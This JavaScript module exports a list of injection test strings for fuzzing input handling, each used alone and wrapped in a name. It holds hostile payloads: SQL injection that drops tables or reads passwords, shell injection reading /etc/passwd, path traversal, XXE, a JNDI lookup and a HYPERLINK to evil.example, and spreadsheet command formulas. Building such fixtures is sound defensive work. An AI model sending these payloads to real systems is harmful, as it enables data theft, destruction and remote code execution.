const dollar = '$';

/** What breaks out of a text in one language or another. */
const sql = [
  ...[
    "'",
    '"',
    "''",
    '`',
    "' or '1'='1",
    "' or 1=1 --",
    "') or ('1'='1' --",
    "' or 1=1 #",
    "'; --",
  ],
  ...["'; drop table users; --", "'; update users set email_verified = true; --", "';commit;--"],
  ...["' union select null, password from accounts --", "' and 1=cast(version() as int) --"],
  ...[
    "'; select pg_sleep(5); --",
    "'||pg_sleep(5)||'",
    "' || (select seed from account_tokens) || '",
  ],
  ...[
    "\\'; drop table users; --",
    '$$; drop table users; $$',
    '$1',
    ':1',
    '?',
    '%',
    '_',
    '%%',
    "E'\\''",
  ],
  ...[
    "1; copy users to program 'id'",
    '0x27',
    '\u02bc or 1=1',
    '\uff07 or 1=1 --',
    "'/**/or/**/1=1",
  ],
  ...['{1,2}', '{}', '[]', "'::text", "'::int", '(select 1)', 'null', 'true', '1e309', '-1', '0/0'],
];
const noSql = [
  ...['{"$gt":""}', '{"$ne":null}', '{"$where":"1337*1337"}', '[$ne]=1', '{"$regex":".*"}'],
  ...[
    "'; return true; var x='",
    '__proto__',
    'constructor.prototype',
    'toString',
    'hasOwnProperty',
  ],
];
const templates = [
  ...[
    '{{1337*1337}}',
    `${dollar}{1337*1337}`,
    '#{1337*1337}',
    '<%= 1337*1337 %>',
    '{%25 1337*1337 %25}',
  ],
  ...[
    '{{constructor.constructor("return 1337*1337")()}}',
    '*{1337*1337}',
    '@(1337*1337)',
    '[[1337*1337]]',
  ],
  ...[
    '#set($x=1337*1337)$x',
    '{{{1337*1337}}}',
    `\`${dollar}{1337*1337}\``,
    '%{1337*1337}',
    '~{1337*1337}',
  ],
  // The typesetter's own.
  ...[
    '#eval("1337*1337")',
    '#read("/etc/passwd")',
    '#(1337*1337)',
    '$ 1337 * 1337 $',
    '@label',
    '<a>',
  ],
];
const others = [
  ...['$(id)', '`id`', '; cat /etc/passwd', '| id', '&& id', '\n/bin/id', '> /tmp/evil', '%0a id'],
  ...['../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd%00', 'file:///etc/passwd'],
  ...[
    '*)(uid=*))(|(uid=*',
    "' or count(/*)=1 or 'a'='b",
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
  ],
  ...[
    '<?xml version="1.0"?><!DOCTYPE x>',
    `${dollar}{jndi:ldap://evil.example/a}`,
    '%s%s%s%n',
    '%1$s',
    '%x%x',
  ],
  ...[
    '=1+1',
    '=HYPERLINK("https://evil.example")',
    '+1',
    '-1+1',
    '@SUM(1)',
    '\t=1',
    "=cmd|'/c calc'!A0",
  ],
  ...[
    '<script>1337*1337</script>',
    ']]>',
    '-->',
    '{"a":1}',
    '\\u0027 or 1=1',
    '\\',
    '\\\\',
    '\u202e',
  ],
];

const all = [...sql, ...noSql, ...templates, ...others];

/** Each by itself, behind a word, and between two. */
export const injections: readonly string[] = [
  ...all,
  ...all.map((each) => `Ada${each}`),
  ...all.map((each) => `Ada ${each} Lovelace`),
];
